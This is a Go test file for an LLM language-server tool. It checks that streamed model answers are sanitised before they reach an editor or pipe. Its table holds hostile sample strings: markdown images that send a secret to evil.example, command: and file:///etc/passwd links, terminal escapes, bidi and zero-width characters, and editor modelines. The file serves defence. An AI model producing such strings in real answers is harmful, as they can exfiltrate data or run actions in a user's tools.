//go:build linux

package faults

import (
	"strings"
	"testing"

	"github.com/llmls/llmls/internal/completion/completiontest"
)

// hostile lists attacks by answers that were seen elsewhere; safe is what the
// sanitiser makes of each block.
var hostile = []struct{ name, text, safe string }{
	{"image", "![logo](https://evil.example/?q=secret)", `!\[logo (evil.example)](https://evil.example/?q=secret)`},
	{"reference image", "![logo][1]\n\n[1]: https://evil.example/", "!\\[logo][1]\n\n[1]\\: https://evil.example/"},
	{"HTML image", `<img src="https://evil.example/">`, `\<img src="https://evil.example/">`},
	{"wiki embed", "![[logo.png]]", `!\[\[logo.png]]`},
	{"Mermaid", "```mermaid\ngraph TD\n```", "```text (mermaid)\ngraph TD\n```"},
	{"command", "[run](command:workbench.action.terminal.new)", `[run]\(command:workbench.action.terminal.new)`},
	{"file", "[open](file:///etc/passwd)", `[open]\(file:///etc/passwd)`},
	{"data", "[open](data:text/html,x)", `[open]\(data:text/html,x)`},
	{"another host", "[github.com](https://evil.example/)", `[github.com (evil.example)](https://evil.example/)`},
	{"terminal", "\x1b]0;owned\x07\x1b[2J\u009b31m\x7f\r", "]0;owned[2J31m"},
	{"bidi", "a\u202eb\u2066c", `a\u{202E}b\u{2066}c`},
	{"tags", "a\U000e0041\U000e0042", `a\u{E0041}\u{E0042}`},
	{"zero width", "pass\u200bword", `pass\u{200B}word`},
	{"code", "```go\nif a < b { _ = `<![x](y)` }\n```", "```go\nif a < b { _ = `<![x](y)` }\n```"},
	{"code in a line", "`Vec<T>` and `m[k](v)`", "`Vec<T>` and `m[k](v)`"},
	{"strikethrough", "~`![logo](https://evil.example/)`", "~`!\\[logo]\\(https://evil.example/)`"},
	{"emphasis that ends in code", "*``![logo](https://evil.example/)*\\`` x", "*``!\\[logo]\\(https://evil.example/)*\\`` x"},
	{"bracket before code", "[`<img src=x>` `", "[`\\<img src=x>` `"},
	{"image in a link", "[!\\[a\\](https://evil.example/)](https://evil.example/)", "[!\\[a\\](https://evil.example/)]\\(https://evil.example/)"},
	{"fence of two kinds", "```\n```~\n![x](y)\n```", "```\n``` ~\n![x](y)\n```"},
	{"fence that is a table", "```a|b\n-|-\n![x](y)\n```", "```a/b\n-|-\n![x](y)\n```"},
	{"Mermaid behind a space", "```\u00a0 mermaid\ngraph TD\n```", "```_ mermaid\ngraph TD\n```"},
	{"math", "```math\nx\n```", "```text (math)\nx\n```"},
	{"quote in a list", "* a\n> ```\n> ![x](y)\n> ```", "* a\n\n> ```\n> ![x](y)\n> ```"},
	{"definition over paragraphs", "[a\n\nb]: command:x", "[a\n\nb]\\: command:x"},
	{"title", `[docs](https://e.example/ "Docs")`, `[docs (e.example)](https://e.example/ "Docs")`},
	{"indented code", "    if a<b { ![x](y) }", "    if a<b { ![x](y) }"},
	{"Vim", "```\nx = 1 # vim: ft=c\n\tvim>802:ft=c\n ex:ft=c\n```\nvi:ft=c\nVim: set ft=c:", "```\nx = 1 # vim\\: ft=c\n\tvim>802\\:ft=c\n ex\\:ft=c\n```\nvi\\:ft=c\nVim: se\\t ft=c:"},
	{"Emacs", "# -*- mode: server -*-\n# LOCAL variables:\n# mode: server\n# End:", "# -*\\- mode: server -*\\-\n# LOCAL variables\\:\n# mode: server\n# End:"},
	{"Kate", "kate: hl C; kate-wildcard(*): hl C; kate-mimetype(a/b): hl C;", "kate\\: hl C; kate-wildcard\\(*): hl C; kate-mimetype\\(a/b): hl C;"},
	{"people", "中文 👩\u200d💻 é", "中文 👩\u200d💻 é"},
	{"what waits at the end", "see `x](y", "see `x]\\(y"},
}

func hostileText() (text, safe string) {
	var texts, safes []string
	for _, h := range hostile {
		texts, safes = append(texts, h.text), append(safes, h.safe)
	}
	return strings.Join(texts, "\n\n"), strings.Join(safes, "\n\n")
}

// byByte is text as deltas that end in every place a delta can end: between two
// bytes of ASCII, and between characters.
func byByte(delta func(string) completiontest.Step, text string) steps {
	var script steps
	for _, r := range text {
		script = append(script, delta(string(r)))
	}
	return script
}

// Nothing that reaches an editor does anything but be read: neither what
// streams, answer or thinking, nor the result, nor what is kept.
func TestHostileAnswerInAnEditor(t *testing.T) {
	t.Parallel()
	text, safe := hostileText()
	u := completiontest.NewUpstream(t)
	s := start(t, llmls.Home(t, u.URL, calm)).ready()
	for _, test := range []struct {
		name   string
		script steps
	}{
		{"whole", steps{completiontest.Reasoning(text), completiontest.Answer(text)}},
		{"by the byte", append(append(byByte(completiontest.Reasoning, text), byByte(completiontest.Delta, text)...), completiontest.Finish("stop"), completiontest.Done())},
		{"broken off", append(append(byByte(completiontest.Reasoning, text), byByte(completiontest.Delta, text)...), completiontest.Cut())},
	} {
		u.Script(test.script...)
		r, err := s.explain(test.name)
		s.Must(err)
		streamed := s.Streamed(test.name)
		var kept []struct{ Text string }
		s.Must(s.Command("llmls.answers", map[string]any{}, &kept))
		for what, got := range map[string]string{
			"the deltas": streamed["delta"], "the reasoning": streamed["reasoning"], "the result": r.Text, "llmls.answers": kept[0].Text,
		} {
			differ(t, test.name+", "+what, safe, got)
		}
	}
}

// Nor does anything that a pipe gets.
func TestHostileAnswerInAPipe(t *testing.T) {
	t.Parallel()
	text, safe := hostileText()
	u := completiontest.NewUpstream(t)
	home := llmls.Home(t, u.URL, calm)
	u.Script(append(byByte(completiontest.Delta, text), completiontest.Finish("stop"), completiontest.Done())...)
	c := home.Run(t, "ask", "why?")
	c.Exits(0)
	differ(t, "stdout", safe, c.Stdout.String())
	u.Script(append(byByte(completiontest.Delta, text), completiontest.Cut())...)
	c = home.Run(t, "ask", "why?")
	c.Exits(1)
	differ(t, "stdout of a broken answer", safe, c.Stdout.String())
}

// differ reports each block of got that is not as in want.
func differ(t *testing.T, what, want, got string) {
	t.Helper()
	if got == want {
		return
	}
	wants, gots := strings.Split(want, "\n\n"), strings.Split(got, "\n\n")
	if len(wants) != len(gots) {
		t.Errorf("%s: %q\nwant %q", what, got, want)
		return
	}
	for i := range wants {
		if gots[i] != wants[i] {
			t.Errorf("%s: %q\nwant %q", what, gots[i], wants[i])
		}
	}
}

// A block of code and plain text wait for nothing: each delta is there before
// the next is sent.
func TestHostileTextWaitsAlone(t *testing.T) {
	t.Parallel()
	u := completiontest.NewUpstream(t)
	s := start(t, llmls.Home(t, u.URL, calm)).ready()
	deltas := []string{"See", " this", ":\n\n", "```", "go\n", "\ta", "[0](", "<b", "\n```\n", "done"}
	var script steps
	for _, delta := range deltas {
		script = append(script, completiontest.Delta(delta), completiontest.Pause(delta))
	}
	u.Script(append(script, completiontest.Finish("stop"), completiontest.Done())...)
	pending := s.StartCommand("llmls.explain", place("partialResultToken", "t"))
	text := ""
	for _, delta := range deltas {
		text += delta
		s.AwaitMethod("$/progress")
		s.wholeText("t", text)
		u.Resume(delta)
	}
	var r result
	s.Must(pending.Wait(s.Context(), &r))
}
